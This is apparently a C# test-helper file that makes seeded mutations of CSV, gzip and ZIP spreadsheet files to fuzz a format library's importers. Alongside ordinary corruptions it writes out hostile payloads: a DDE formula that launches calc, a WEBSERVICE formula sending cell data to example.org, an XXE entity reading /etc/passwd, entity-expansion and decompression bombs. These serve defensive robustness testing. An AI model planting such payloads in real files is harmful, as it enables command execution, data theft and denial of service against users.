using System.IO.Compression;
using System.Text;

namespace Waymark.Formats.Tests;

/// <summary>
/// What was done to a file, so that a failure can be repeated: seed and kind give the same bytes again.
/// </summary>
public sealed record Mutant(string Kind, int Seed, byte[] Bytes)
{
    public override string ToString() => $"{Kind}#{Seed} ({Bytes.Length} bytes)";
}

/// <summary>
/// Deterministic damage to published files, as transfers, spreadsheets, hands and attackers do it. The same file, seed
/// and kind always give the same mutant. Link this file as source where an importer needs the same trials.
/// </summary>
public static class Mutations
{
    private static readonly string[] All =
    [
        "truncate", "flip-bit", "flip-many", "zero-block", "splice", "insert", "duplicate-lines", "drop-lines",
            "swap-columns",
        "utf16", "latin1", "add-mark", "cr-only", "nul-bytes", "stray-quote", "other-delimiter", "gzip",
            "gzip-truncated",
        "wide-row", "wide-header", "repeat-all", "double-rows", "shuffle-columns", "utf16-big-endian", "encoded-twice",
            "text-formula", "gzip-bomb", "gzip-twice", "member-truncate", "member-flip", "member-bomb", "member-many",
            "member-text", "formula", "external-link", "doctype", "entities",
    ];

    /// <summary>Names of all kinds; those that do not fit a file fall back to flipped bits.</summary>
    public static IReadOnlyList<string> Kinds => All;

    public static Mutant Make(ReadOnlySpan<byte> original, int seed)
    {
        var random = new Random(seed);
        var kind = All[random.Next(All.Length)];
        var bytes = original.ToArray();
        return new(kind, seed, Apply(kind, bytes, random) ?? Flip(bytes, random, 3));
    }

    private static byte[]? Apply(string kind, byte[] bytes, Random random) => kind switch
    {
        "truncate" => bytes[..random.Next(bytes.Length)],
        "flip-bit" => Flip(bytes, random, 1),
        "flip-many" => Flip(bytes, random, 1 + random.Next(200)),
        "zero-block" => Zero(bytes, random),
        "splice" => [.. bytes[..random.Next(bytes.Length)], .. bytes[random.Next(bytes.Length)..]],
        "insert" => Insert(bytes, random),
        "duplicate-lines" or "drop-lines" or "swap-columns" or "stray-quote" or "wide-row" or "wide-header"
            or "double-rows" or "shuffle-columns" or "text-formula" => Lines(kind, bytes, random),
        "utf16-big-endian" => IsText(bytes) ? [0xFE, 0xFF, .. Encoding.BigEndianUnicode.GetBytes(Encoding.UTF8.GetString(bytes))] : null,
        "encoded-twice" => IsText(bytes) ? Encoding.UTF8.GetBytes(Encoding.Latin1.GetString(bytes)) : null,
        "utf16" => IsText(bytes) ? Encoding.Unicode.GetBytes(Encoding.Latin1.GetString(bytes)) : null,
        "latin1" => IsText(bytes) ? Encoding.Latin1.GetBytes(Encoding.UTF8.GetString(bytes)) : null,
        "add-mark" => [0xEF, 0xBB, 0xBF, .. bytes],
        "cr-only" => IsText(bytes) ? [.. bytes.Where(static value => value != '\r').Select(static value => value == '\n'
            ? (byte)'\r' : value)] : null,
        "nul-bytes" => Nul(bytes, random),
        "other-delimiter" => IsText(bytes) ? [.. bytes.Select(static value => value == ',' ? (byte)';' : value)] : null,
        "gzip" => Gzip(bytes),
        "gzip-truncated" => Gzip(bytes) is var packed ? packed[..random.Next(packed.Length)] : null,
        "gzip-bomb" => Gzip(bytes.AsSpan(0, Math.Min(bytes.Length, 1 << 20)), zeros: 48 << 20),
        "gzip-twice" => Gzip(Gzip(bytes)),
        "repeat-all" => bytes.Length < 1 << 20 ? [.. bytes, .. bytes, .. bytes] : null,
        _ => Package(kind, bytes, random),
    };

    private static bool IsText(byte[] bytes) => bytes.Length > 0 && bytes.Length < 8 << 20
        && bytes.AsSpan(0, Math.Min(512, bytes.Length)).IndexOf((byte)0) < 0
        && bytes[0] is not ((byte)'P' or 0x1F or 0xD0);

    private static byte[] Flip(byte[] bytes, Random random, int count)
    {
        for (var i = 0; i < count && bytes.Length > 0; i++)
        {
            bytes[random.Next(bytes.Length)] ^= (byte)(1 << random.Next(8));
        }

        return bytes;
    }

    private static byte[] Zero(byte[] bytes, Random random)
    {
        var from = random.Next(bytes.Length);
        Array.Clear(bytes, from, Math.Min(1 + random.Next(4096), bytes.Length - from));
        return bytes;
    }

    private static byte[] Insert(byte[] bytes, Random random)
    {
        var noise = new byte[1 + random.Next(300)];
        random.NextBytes(noise);
        var at = random.Next(bytes.Length);
        return [.. bytes[..at], .. noise, .. bytes[at..]];
    }

    private static byte[] Nul(byte[] bytes, Random random)
    {
        for (var i = 0; i < 5; i++)
        {
            bytes[random.Next(bytes.Length)] = 0;
        }

        return bytes;
    }

    private static byte[]? Lines(string kind, byte[] bytes, Random random)
    {
        if (!IsText(bytes))
        {
            return null;
        }

        var lines = Encoding.Latin1.GetString(bytes).Split('\n').ToList();
        var at = random.Next(lines.Count);
        switch (kind)
        {
            case "duplicate-lines":
                lines.InsertRange(at, lines.Skip(at).Take(1 + random.Next(50)).ToList());
                break;
            case "drop-lines":
                lines.RemoveRange(at, Math.Min(1 + random.Next(50), lines.Count - at));
                break;
            case "stray-quote":
                for (var i = 0; i < 1 + random.Next(20); i++)
                {
                    at = random.Next(lines.Count);
                    lines[at] = lines[at].Insert(random.Next(lines[at].Length + 1), "\"");
                }

                break;
            case "wide-row":
                lines.Insert(at, new string(',', 1_000_000));
                break;
            case "wide-header":
                at = random.Next(Math.Min(20, lines.Count));
                lines[at] = lines[at].TrimEnd('\r') + new string(',', 1_000_000);
                break;
            case "double-rows":
                lines = [.. lines.SelectMany(static line => (string[])[line, line])];
                break;
            case "shuffle-columns":
                var order = Enumerable.Range(0, lines.Max(static line => line.Count(static c => c == ',')) + 1).ToArray();
                random.Shuffle(order);
                lines = [.. lines.Select(line => Shuffled(line.TrimEnd('\r').Split(','), order))];
                break;
            case "text-formula":
                for (var i = 0; i < 1 + random.Next(20); i++)
                {
                    at = random.Next(lines.Count);
                    var fields = lines[at].Split(',');
                    fields[random.Next(fields.Length)] = random.Next(2) == 0 ? "=cmd|' /C calc'!A0" : "@SUM(1+1)*9";
                    lines[at] = string.Join(',', fields);
                }

                break;
            default:
                lines = [.. lines.Select(line => string.Join(',', line.Split(',').Reverse()))];
                break;
        }

        return Encoding.Latin1.GetBytes(string.Join('\n', lines));
    }

    private static string Shuffled(string[] fields, int[] order) =>
        string.Join(',', order.Where(at => at < fields.Length).Select(at => fields[at]));

    // The zeros go in by pieces: making a bomb must not need the memory that the reader is denied.
    private static byte[] Gzip(ReadOnlySpan<byte> bytes, int zeros = 0)
    {
        using var result = new MemoryStream();
        using (var packer = new GZipStream(result, CompressionLevel.Fastest))
        {
            packer.Write(bytes);
            Span<byte> piece = stackalloc byte[4096];
            piece.Clear();
            for (var left = zeros; left > 0; left -= piece.Length)
            {
                packer.Write(piece[..Math.Min(left, piece.Length)]);
            }
        }

        return result.ToArray();
    }

    /// <summary>
    /// Changes one member of a ZIP package and packs it anew, so that checksums are right and the content is not.
    /// </summary>
    private static byte[]? Package(string kind, byte[] bytes, Random random)
    {
        if (bytes.Length < 4 || bytes[0] != 'P' || bytes[1] != 'K')
        {
            return null;
        }

        using var source = new ZipArchive(new MemoryStream(bytes), ZipArchiveMode.Read);
        var sheets = source.Entries.Where(static entry =>
            entry.FullName.Contains("sheet", StringComparison.OrdinalIgnoreCase)
            || entry.FullName is "content.xml" or "xl/workbook.xml" or "xl/sharedStrings.xml"
                or "xl/styles.xml").ToList();
        var chosen = sheets[random.Next(sheets.Count)].FullName;
        using var result = new MemoryStream();
        using (var target = new ZipArchive(result, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var entry in source.Entries)
            {
                using var reader = entry.Open();
                using var content = new MemoryStream();
                reader.CopyTo(content);
                var body = content.ToArray();
                using var writer = target.CreateEntry(entry.FullName, CompressionLevel.Fastest).Open();
                writer.Write(entry.FullName == chosen && body.Length > 0 ? Member(kind, body, random) : body);
            }

            for (var i = 0; kind == "member-many" && i < 12_000; i++)
            {
                target.CreateEntry($"xl/more/{i}.xml", CompressionLevel.NoCompression);
            }
        }

        return result.ToArray();
    }

    private static byte[] Member(string kind, byte[] body, Random random) => kind switch
    {
        "member-truncate" => body[..random.Next(body.Length)],
        "member-bomb" => [.. body[..random.Next(body.Length)], .. Enumerable.Repeat((byte)' ', 20 << 20)],
        "member-text" => Replace(body, "<v>", $"<v>{new string('9', 1 + random.Next(5000))}", random),
        "formula" => Replace(body, "<v>", "<f>WEBSERVICE(\"http://example.org/\"&amp;A1)</f><v>", random),
        "external-link" => Replace(body, "<v>", "<f>[9]Other!A1</f><v>", random),
        "member-many" => body,
        "entities" => Replace(body, "?>", "?><!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]>", random),
        "doctype" => Replace(body, "?>", "?><!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>", random),
        _ => Flip(body, random, 1 + random.Next(20)),
    };

    private static byte[] Replace(byte[] body, string what, string by, Random random)
    {
        var text = Encoding.Latin1.GetString(body);
        var at = text.IndexOf(what, what == "?>" ? 0 : random.Next(text.Length), StringComparison.Ordinal);
        return at < 0 ? Flip(body, random, 2) : Encoding.Latin1.GetBytes(text.Remove(at, what.Length).Insert(at, by));
    }
}
